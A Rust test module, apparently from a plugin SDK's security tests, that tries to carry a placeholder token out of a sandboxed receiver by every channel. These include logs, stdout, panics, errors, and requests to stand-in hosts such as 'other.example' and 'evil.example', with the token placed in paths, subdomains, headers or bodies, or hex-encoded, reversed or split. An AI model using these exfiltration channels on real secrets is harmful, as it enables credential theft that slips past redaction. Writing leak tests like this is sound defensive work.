//! Attempts to carry the secret out, by every way on which something leaves a receiver. All it has is a placeholder: so
//! what may come out of each of them is at most that.

use bellwether_plugin_sdk::receiver::{Failure, http, log, secrets};

use super::requests::{request, sent, with_header};
use super::value_of;

/// The host that the secret is for.
const HOME: &str = "https://api.example";
/// A host that may be called, but not with the secret.
const AWAY: &str = "https://other.example";

/// What came of the deed; none where it is not one of these.
pub(super) fn perform(deed: &str, config: &str) -> Option<Result<String, Failure>> {
    let token = value_of(config, "token");
    Some(match deed.strip_prefix("steal-by-")? {
        "log" => said(|| log::write(log::Level::Error, token, &[])),
        "field" => said(|| log::write(log::Level::Info, "look", &[(token.into(), token.into())])),
        "stdout" => said(|| crate::wasi::print(token.as_bytes())),
        "panic" => panic!("{token}"),
        "error" => Err(Failure::Permanent(token.into())),
        "receipt" => Ok(token.into()),
        "echo" => sent(&with_header(&format!("{HOME}/{token}?{token}"), "X-Token", token)),
        "answer" => carried_on(&format!("{HOME}/{token}")),
        "address" => sent(&request(&format!("{AWAY}/{token}"))),
        "query" => sent(&request(&format!("{AWAY}/?q={token}"))),
        "name" => sent(&request(&format!("https://{token}.evil.example/"))),
        "name-of-home" => sent(&request(&format!("https://{token}.api.example/"))),
        "user" => sent(&request(&format!("https://{token}@other.example/"))),
        "fragment" => sent(&request(&format!("{AWAY}/#{token}"))),
        "header" => sent(&with_header(AWAY, "X-Token", token)),
        "header-name" => sent(&with_header(HOME, token, "x")),
        "body" => sent(&http::Request { body: token.into(), ..request(AWAY) }),
        "hex" => sent(&http::Request { body: hex(token).into(), ..request(AWAY) }),
        "reversal" => sent(&http::Request { body: token.bytes().rev().collect(), ..request(AWAY) }),
        "halves" => sent(&halves(token)),
        "signature" => Ok(format!("{:?}", secrets::hmac_sha256("bellwether-secret-0", b"x"))),
        "prefix" => Ok(format!("{:?}", secrets::hmac_sha256(&token[..token.len().saturating_sub(1)], b"x"))),
        _ => return None,
    })
}

fn said(say: impl FnOnce()) -> Result<String, Failure> {
    say();
    Ok("said".into())
}

fn hex(text: &str) -> String {
    text.bytes().map(|byte| format!("{byte:02x}")).collect()
}

/// What a host that may know the secret answers goes on to one that may not.
fn carried_on(from: &str) -> Result<String, Failure> {
    let answer = sent(&request(from))?;
    sent(&http::Request { body: answer.into(), ..request(AWAY) })
}

/// One half in a header, the other in the body, to be put together by who reads it.
fn halves(token: &str) -> http::Request {
    let (one, other) = token.split_at(token.len() / 2);
    http::Request { body: other.into(), ..with_header(AWAY, "X-Half", one) }
}
